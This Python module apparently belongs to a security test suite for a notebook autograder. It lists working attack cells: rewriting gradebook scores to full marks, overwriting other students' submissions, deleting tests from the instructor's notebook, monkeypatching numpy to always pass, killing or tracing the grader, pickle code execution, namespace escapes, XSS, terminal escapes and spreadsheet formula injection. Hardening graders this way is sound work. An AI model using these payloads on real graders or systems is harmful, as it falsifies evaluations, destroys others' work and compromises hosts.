"""Code that reaches beyond its notebook: to the grader, its files, other students, who reads the report."""

from __future__ import annotations

from . import canaries
from .attack import BREAKING_OUT, Attack, position
from .peeking import FIND

GRADEBOOK_WRITTEN = f"""\
{FIND}
import sqlite3

for path in find("gradebook.db"):
    base = sqlite3.connect(path, timeout=1)
    base.execute("update grade set manual_score = 10.0, needs_manual_grade = 0")
    base.commit()
    base.close()
    break"""
GRADEBOOK_LOCKED = f"""\
{FIND}
import sqlite3
import time

for path in find("gradebook.db"):
    if os.fork() == 0:
        os.setsid()
        base = sqlite3.connect(path, timeout=1)
        base.execute("begin exclusive")
        time.sleep(60)
        os._exit(0)
    time.sleep(0.3)
    break"""
NEIGHBOURS_OVERWRITTEN = f"""\
{FIND}

for pattern in ("submitted/*/rows/rows.ipynb", "autograded/alice/rows/rows.ipynb", "alice/rows/*.ipynb"):
    for path in find(pattern):
        try:
            with open(path, "w") as file:
                file.write("gone")
        except OSError as error:
            print(error)"""
NEIGHBOURS_DELETED = f"""\
{FIND}
import shutil

for path in [*find("submitted/zoe"), *find("autograded/alice"), *find("zoe")]:
    shutil.rmtree(path, ignore_errors=True)"""
SOURCE_CHANGED = f"""\
{FIND}

for path in [*find("source/rows/rows.ipynb"), *find("release/rows/rows.ipynb")]:
    text = read(path)
    with open(path, "w") as file:
        file.write(text.replace("assert ", "pass # ").replace("hidden=True", "hidden=False"))"""
HOME_START_UP = """\
import os

folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, "00-always.py"), "w") as file:
    file.write("import numpy\\n\\nnumpy.allclose = lambda *args, **kwargs: True\\n")
    file.write("numpy.testing.assert_allclose = lambda *args, **kwargs: None\\n")"""
OUTPUT_LINK = f"""\
{FIND}

for path in find("source/rows/rows.ipynb"):
    target = os.path.abspath(path)
    if os.path.exists("rows.ipynb"):
        os.remove("rows.ipynb")
    os.symlink(target, "rows.ipynb")
    break"""
KILL = "import os\nimport signal\nimport time\n\n"
PTRACE = """\
import ctypes
import os
import time

libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1):
    print(libc.ptrace(16, pid, None, None), libc.ptrace(4, pid, None, None))
time.sleep(0.2)"""
LEFT_BEHIND = f"""\
{FIND}
import time

targets = [*find("submitted/zoe/rows/rows.ipynb"), *find("autograded/alice/rows/rows.ipynb")]
targets = [os.path.abspath(path) for path in targets]
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(1.0)
    for path in targets:
        with open(path, "w") as file:
            file.write("gone")
    time.sleep(20)
    os._exit(0)"""
SERVICE = f"""\
import socket

for kind, address in ((socket.AF_INET, ("127.0.0.1", {canaries.PORT})), (socket.AF_UNIX, {canaries.ABSTRACT_SOCKET!r})):
    try:
        with socket.socket(kind, socket.SOCK_STREAM) as connection:
            connection.settimeout(2)
            connection.connect(address)
            print(connection.recv(100).decode())
    except OSError as error:
        print(error)"""
PICKLE = f"""\
class Trap:
    def __reduce__(self):
        code = "import glob, os; [open(p, 'w').write('gone') for up in ('.', '..', '../..', '../../..') "
        code += "for p in glob.glob(up + '/submitted/zoe/rows/rows.ipynb') + glob.glob(up + '/zoe/rows/rows.ipynb')]; "
        code += "print({canaries.SERVICE!r})"
        return exec, (code,)


def row_sums(x):
    return Trap()"""
RESULTS_PICKLE = f"""\
import glob
import os
import pickle

{PICKLE}


def overwrite():
    for path in glob.glob("/tmp/*.pkl") + glob.glob("../../*.pkl") + glob.glob("*.pkl"):
        with open(path, "wb") as file:
            pickle.dump(Trap(), file)


overwrite()
import atexit

atexit.register(overwrite)"""
RUBBISH = """\
import os
import stat

for descriptor in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            os.write(descriptor, {what})
    except OSError:
        pass"""
FORGED = """\
import gc

for thing in gc.get_objects():
    if type(thing).__name__ == "Channel":
        for answer in (("value", {"rows-sum": 10.0}), ("value", 10.0), ("return", None)):
            try:
                thing.send(answer)
            except Exception as error:
                print(error)
    if type(thing).__name__ in ("CellRunner", "Checker", "GradingResults"):
        vars(thing).update(total=100.0, possible=1.0)"""
DEEP = """\
def row_sums(x):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested"""
SELF_CONTAINING = "def row_sums(x):\n    endless = {}\n    endless['again'] = endless\n    return endless"
SCRIPT = f"""\
from IPython.display import HTML, Javascript, display

display(HTML("{canaries.SCRIPT}()</script><img src=x onerror=canary()>"))
display(Javascript("canary()"))
display({{"image/svg+xml": "<svg>{canaries.SCRIPT}()</script></svg>", "text/plain": "a picture"}}, raw=True)"""
TERMINAL = r"""
import sys

print("\x1b]0;canary\x07\x1b[2J")
print("\x1b]0;canary\x07\x1b[2J", file=sys.stderr)


def row_sums(x):
    raise ValueError("\x1b]0;canary\x07\x1b[2J\x1b[31m all points \x9b2J")"""
FORMULA = """\
def row_sums(x):
    raise type("=HYPERLINK", (Exception,), {})("=cmd|' /C calc'!A0\\n+1+1\\t@SUM(1)")"""
NAMESPACES = """\
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
print("unshare", libc.unshare(0x10000000 | 0x00020000))
print("mount", libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), "chroot", libc.chroot(b"/proc/1/root"))
for path in ("/proc/1/ns/mnt", "/proc/1/root", *glob.glob("/dev/*mem"), "/proc/kcore", *glob.glob("/dev/[sv]d*")):
    try:
        descriptor = os.open(path, os.O_RDONLY)
        print("opened", path, libc.setns(descriptor, 0))
    except OSError as error:
        print(error)"""


def _script_in_text(notebook):
    cell = notebook["cells"][position(notebook, "rows-written")]
    cell["source"] = f"{canaries.SCRIPT}()</script> <img src=x onerror='canary()'> [link](javascript:canary())"


ATTACKS = (
    Attack("gradebook-written", BREAKING_OUT, "gives everybody full marks in the gradebook", cell=GRADEBOOK_WRITTEN,
           named="names 'gradebook'"),
    Attack("gradebook-locked", BREAKING_OUT, "a process left behind holds the gradebook's lock", cell=GRADEBOOK_LOCKED,
           base="half", named="names 'gradebook'"),
    Attack("neighbours-overwritten", BREAKING_OUT, "writes over what other students handed in",
           cell=NEIGHBOURS_OVERWRITTEN, base="half", named="names 'submitted/'"),
    Attack("neighbours-deleted", BREAKING_OUT, "deletes what others handed in and were given", cell=NEIGHBOURS_DELETED,
           base="half", named="names 'submitted/'"),
    Attack("source-changed", BREAKING_OUT, "takes the tests out of the instructor's notebook", cell=SOURCE_CHANGED,
           base="half", named="names 'source/'"),
    Attack("start-up-file-at-home", BREAKING_OUT, "a start-up file in HOME that runs for the next student",
           cell=HOME_START_UP, base="half", named="home folder"),
    Attack("output-through-a-link", BREAKING_OUT, "its own output file becomes a link to the instructor's notebook",
           cell=OUTPUT_LINK, base="half", named="names 'source/'"),
    Attack("grader-killed", BREAKING_OUT, "kills the process that started it", base="half",
           cell=f"{KILL}os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(0.5)", named="sends a signal"),
    Attack("everything-killed", BREAKING_OUT, "kills every process that it may", base="half",
           cell=f"{KILL}os.kill(-1, signal.SIGKILL)", named="sends a signal"),
    Attack("grader-stopped", BREAKING_OUT, "stops the process that started it, without ending it", base="half",
           cell=f"{KILL}os.kill(os.getppid(), signal.SIGSTOP)\ntime.sleep(0.5)", named="sends a signal", slow=True),
    Attack("grader-traced", BREAKING_OUT, "attaches to the grader as a debugger does", cell=PTRACE, base="half",
           named="imports ctypes"),
    Attack("process-left-behind", BREAKING_OUT, "a process that outlives the grading and then writes", cell=LEFT_BEHIND,
           base="half", named="starts processes"),
    Attack("local-service", BREAKING_OUT, "talks to services of the machine", cell=SERVICE, named="imports socket"),
    Attack("pickle-returned", BREAKING_OUT, "an answer that runs code where it is unpickled", {"rows-sum": PICKLE},
           base="half", named="__reduce__", probe=True),
    Attack("results-file-overwritten", BREAKING_OUT, "the file of results is replaced by a pickle that runs code",
           cell=RESULTS_PICKLE, base="half", named="__reduce__", probe=True),
    Attack("rubbish-on-every-descriptor", BREAKING_OUT, "writes rubbish on every connection that it finds",
           {"rows-sum": RUBBISH.format(what="b'\\xff' * 4096")}, base="half", named="writes to file descriptors"),
    Attack("huge-message", BREAKING_OUT, "announces a message of 2^60 bytes on every connection",
           {"rows-sum": RUBBISH.format(what="(1 << 60).to_bytes(8, 'little') * 2")}, base="half",
           named="writes to file descriptors"),
    Attack("forged-answers", BREAKING_OUT, "sends answers that nobody asked for, and edits the grader's objects",
           {"rows-sum": FORGED}, base="half", named="get_objects", probe=True),
    Attack("deep-answer", BREAKING_OUT, "returns a list nested 100,000 deep", {"rows-sum": DEEP}, base="half"),
    Attack("endless-answer", BREAKING_OUT, "returns a dictionary that contains itself", {"rows-sum": SELF_CONTAINING},
           base="half", probe=True),
    Attack("script-displayed", BREAKING_OUT, "displays a script, for who reads the report", cell=SCRIPT, base="half",
           named="displays a script"),
    Attack("script-in-text", BREAKING_OUT, "a written answer that is a script", damage=_script_in_text, base="half",
           named="a script in a text cell"),
    Attack("terminal-codes", BREAKING_OUT, "control codes for the terminal in outputs and errors",
           {"rows-sum": TERMINAL}, base="half", probe=True),
    Attack("formula-in-an-error", BREAKING_OUT, "a spreadsheet formula in the name and the words of an error",
           {"rows-sum": FORMULA}, base="half", probe=True),
    Attack("namespaces-and-devices", BREAKING_OUT, "mounts, enters other namespaces, opens devices", cell=NAMESPACES,
           base="half", named="imports ctypes", spends=True, probe=True),
)  # fmt: skip
